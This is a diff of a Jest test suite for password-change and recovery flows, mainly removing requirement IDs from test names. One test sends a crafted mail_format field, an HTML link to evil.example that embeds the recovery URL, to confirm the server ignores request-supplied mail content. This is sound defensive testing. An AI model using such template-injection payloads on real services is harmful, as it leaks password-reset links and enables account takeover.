@@ -1,4 +1,4 @@
-/** New passwords: knowing the old one, by a mail, by an admin; and what they end. */
+/** New passwords: set with the old one, by a recovery mail, or by an admin; and what they end. */
 import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
 import jsonwebtoken from 'jsonwebtoken';
 import { openMailbox, type Mailbox } from './support/mailbox.ts';
@@ -71,7 +71,7 @@ describe('new passwords', () => {
       'a function of a model',
       () => world.send('POST', '/call/book/newPassword', { body: { email: emailOf('way6'), hash } }),
     ],
-  ])('%s ends all sessions, JWTs and the old password, at the next request (AU-13)', async (way, change) => {
+  ])('%s ends all sessions, JWTs and the old password, at the next request', async (way, change) => {
     const name = `way${ways.indexOf(way)}`;
     const login = await somebody(name);
     const tried = async (): Promise<number[]> => {
@@ -122,13 +122,13 @@ describe('new passwords', () => {
     ['no email', {}, [400]],
     ['an empty one', { email: '' }, [400]],
     ['nobody', { email: 'nobody@x.test' }, [404]],
-  ])('a recovery of %s sends no mail (RC-01)', async (_name, body, expected) => {
+  ])('a recovery of %s sends no mail', async (_name, body, expected) => {
     const before = mailbox.letters.length;
     expect(expected).toContain((await recover(body)).status);
     expect(mailbox.letters.length).toBe(before);
   });
 
-  test('nothing of the mail comes from the request (RC-02)', async () => {
+  test('nothing of the mail comes from the request', async () => {
     const body = {
       email: 'ANN@x.test ',
       mail_format: '<a href=https://evil.example/?{{recover_url}}>',
@@ -150,7 +150,7 @@ describe('new passwords', () => {
     expect(mailbox.link().startsWith(page)).toBe(true);
   });
 
-  test('a recovery works once, the newest ends the others, and so does a changed password (RC-04)', async () => {
+  test('a recovery works once, the newest ends the others, and so does a changed password', async () => {
     const first = await mailed('bob');
     const second = await mailed('bob');
     expect((await reset(first, 'n1')).status).toBe(200);
@@ -171,7 +171,7 @@ describe('new passwords', () => {
     expect((await world.login('bob', 'own')).user_id).toBe(world.ids['bob']);
   });
 
-  test('a recovery JWT resets and nothing else, a refused password leaves it good (RC-05, RC-08)', async () => {
+  test('a recovery JWT resets and nothing else, a refused password leaves it good', async () => {
     const jwt = await mailed('eve');
     expect(Object.keys(jsonwebtoken.decode(jwt) as object).sort()).toEqual([
       'aud',
@@ -192,7 +192,7 @@ describe('new passwords', () => {
     expect((await reset(jwt, 'new')).status).toBe(200);
   });
 
-  test('nothing that was given out is kept, in the database or the log (AU-25, LK-09)', async () => {
+  test('nothing that was given out is kept, in the database or the log', async () => {
     const login = await somebody('vera');
     const jwt = await mailed('vera');
     const next = await world.send('POST', '/refresh', { headers: bearer(login.refresh_token) });
